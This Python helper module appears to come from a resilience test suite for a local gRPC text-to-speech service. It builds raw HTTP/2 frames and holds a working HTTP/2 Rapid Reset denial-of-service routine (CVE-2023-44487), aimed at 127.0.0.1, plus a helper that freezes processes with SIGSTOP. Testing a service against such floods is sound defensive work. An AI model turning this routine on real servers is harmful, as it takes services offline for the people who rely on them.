"""Clients that speak to a port without any library, and processes that stand still for a while."""

from __future__ import annotations

import asyncio
import os
import random
import signal
import socket
import struct
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager, suppress

HOST = "127.0.0.1"


@asynccontextmanager
async def connected(port: int, receive_bytes: int | None = None) -> AsyncIterator[socket.socket]:
    """Connect without any library; the connection is reset in the end."""
    connection = socket.socket()
    if receive_bytes is not None:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    connection.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(connection, (HOST, port))
        yield connection
    finally:
        with suppress(OSError):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()


async def send(connection: socket.socket, data: bytes) -> None:
    with suppress(OSError):
        await asyncio.get_running_loop().sock_sendall(connection, data)


async def receive(connection: socket.socket, count: int, seconds: float) -> bytes:
    with suppress(OSError, asyncio.TimeoutError):
        return await asyncio.wait_for(asyncio.get_running_loop().sock_recv(connection, count), seconds)
    return b""


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, _HEADERS, _RST_STREAM = 4, 1, 3
_END_HEADERS = 4
_PATH = b"/tts_api.tts.v1.TextToSpeechService/Synthesize"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Write a header of HPACK, neither indexed nor compressed (RFC 7541, 6.2.2); both are shorter than 127 bytes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


async def reset_rapidly(port: int, rng: random.Random) -> None:
    """Open HTTP/2 streams and reset each at once, some thousand times (CVE-2023-44487)."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", _PATH), (b":authority", b"localhost"))
    block = b"".join(literal(*pair) for pair in (*fields, (b"content-type", b"application/grpc"), (b"te", b"trailers")))
    async with connected(port) as connection:
        await send(connection, PREFACE + frame(SETTINGS, 0, 0))
        for first in range(1, 2 * rng.randrange(1000, 3000), 200):
            numbers = range(first, first + 200, 2)
            cancel = struct.pack(">I", 8)
            frames = [frame(_HEADERS, _END_HEADERS, n, block) + frame(_RST_STREAM, 0, n, cancel) for n in numbers]
            await send(connection, b"".join(frames))
            await receive(connection, 65536, 0.005)


async def stop_and_continue(pids: Sequence[int], seconds: float) -> None:
    """Stop processes for a while."""
    for number in (signal.SIGSTOP, signal.SIGCONT):
        for pid in pids:
            with suppress(ProcessLookupError):
                os.kill(pid, number)
        if number is signal.SIGSTOP:
            await asyncio.sleep(seconds)
